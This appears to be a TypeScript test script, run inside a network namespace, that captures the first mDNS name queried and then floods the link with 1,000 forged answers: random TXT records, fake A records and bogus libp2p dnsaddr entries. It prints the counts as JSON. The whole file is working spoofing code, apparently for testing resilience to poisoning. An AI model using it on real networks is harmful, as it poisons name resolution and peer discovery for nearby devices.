// Run inside a network namespace: `node mdns-spoof.ts OWN_IP`. Listens for the name that laptops ask for, then asks for it 200
// times and answers it 1,000 times with lies; prints what it did as JSON.
import { randomBytes } from 'node:crypto'

import makeMulticastDns from 'multicast-dns'

const [ip = ''] = process.argv.slice(2)
const dns = makeMulticastDns({ interface: ip, bind: '0.0.0.0', port: 5353, reuseAddr: true, loopback: false })
dns.on('error', () => undefined)
const name = await new Promise<string>((resolve) => {
  dns.on('query', ({ questions }) => {
    const [asked] = questions ?? []
    if (asked !== undefined) resolve(asked.name)
  })
})
let answers = 0
dns.on('response', () => answers++)
const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))
const began = performance.now()
for (let n = 0; n < 200; n++) {
  dns.query([{ name, type: 'TXT' }])
  await wait(15)
}
const seconds = (performance.now() - began) / 1_000
const told = answers
for (let n = 0; n < 1_000; n++) {
  const lies = [
    { name, type: 'TXT' as const, ttl: 10, data: randomBytes(168) },
    { name, type: 'A' as const, ttl: 10, data: `10.99.${n % 250}.7` },
    { name: '_p2p._udp.local', type: 'TXT' as const, ttl: 10, data: Buffer.from(`dnsaddr=/ip4/10.99.0.7/tcp/${n}`) },
  ]
  dns.respond(lies)
  if (n % 20 === 0) await wait(20)
}
await wait(500)
process.stdout.write(`${JSON.stringify({ asked: 200, seconds, answers: told, lies: 1_000 })}\n`)
process.exit(0)
